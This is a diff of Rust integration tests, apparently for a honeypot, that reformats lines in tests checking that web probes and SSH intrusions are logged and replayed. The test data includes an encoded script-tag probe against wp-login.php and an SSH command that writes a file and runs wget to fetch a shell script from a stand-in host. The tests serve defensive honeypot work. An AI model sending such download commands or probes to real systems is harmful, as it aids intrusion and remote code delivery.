@@ -16,7 +16,8 @@ fn has_event(logs: &Value, event_type: &str) -> bool {
 async fn a_web_visitor_is_recorded_profiled_and_listed() {
     let world = World::up(&[]).await;
     let (ip, port, _) = world.find("http");
-    let (code, body, _) = client("curl", &["-sS", "-i", "-A", "trial/1.0", &format!("http://{ip}:{port}/wp-login.php?x=%3Cscript%3E")], b"").await;
+    let (code, body, _) =
+        client("curl", &["-sS", "-i", "-A", "trial/1.0", &format!("http://{ip}:{port}/wp-login.php?x=%3Cscript%3E")], b"").await;
     assert_eq!(code, 0);
     assert!(text(&body).starts_with("HTTP/1.1 "), "{}", text(&body));
     let logs = world.until("/logs?search=service:http", |l| has_event(l, "request") && has_event(l, "disconnect")).await;
@@ -46,7 +47,9 @@ async fn an_intruder_signs_in_over_ssh_and_everything_is_kept() {
     // The decky's own password opens.
     let (user, password) = world.account(&name);
     let login = format!("{user}@{ip}");
-    let right = [&["-p", &password][..], &["ssh"], &options, &[&login, "whoami; echo kept > /tmp/left; wget -t 1 http://mirror.invalid/x.sh"]].concat();
+    let right =
+        [&["-p", &password][..], &["ssh"], &options, &[&login, "whoami; echo kept > /tmp/left; wget -t 1 http://mirror.invalid/x.sh"]]
+            .concat();
     let (_, out, err) = client("sshpass", &right, b"").await;
     assert!(text(&out).starts_with(&user), "{} {}", text(&out), text(&err));
     let logs = world.until("/logs?search=service:ssh&limit=100", |l| has_event(l, "command") && has_event(l, "url_seen")).await;
@@ -55,7 +58,8 @@ async fn an_intruder_signs_in_over_ssh_and_everything_is_kept() {
     let again = [&["-p", &password][..], &["ssh"], &options, &[&login, "cat /tmp/left"]].concat();
     assert_eq!(text(&client("sshpass", &again, b"").await.1), "kept\n");
     // Its sessions can be replayed.
-    let sessions = world.until("/sessions?recorded=true", |s| s["data"].as_array().unwrap().iter().any(|s| !s["recording"].is_null())).await;
+    let sessions =
+        world.until("/sessions?recorded=true", |s| s["data"].as_array().unwrap().iter().any(|s| !s["recording"].is_null())).await;
     let session = sessions["data"].as_array().unwrap().iter().find(|s| !s["recording"].is_null()).unwrap().clone();
     let replay = world.get(&format!("/transcripts/{name}/{}", session["sid"].as_str().unwrap())).await;
     assert_eq!(replay["header"]["version"], 2);
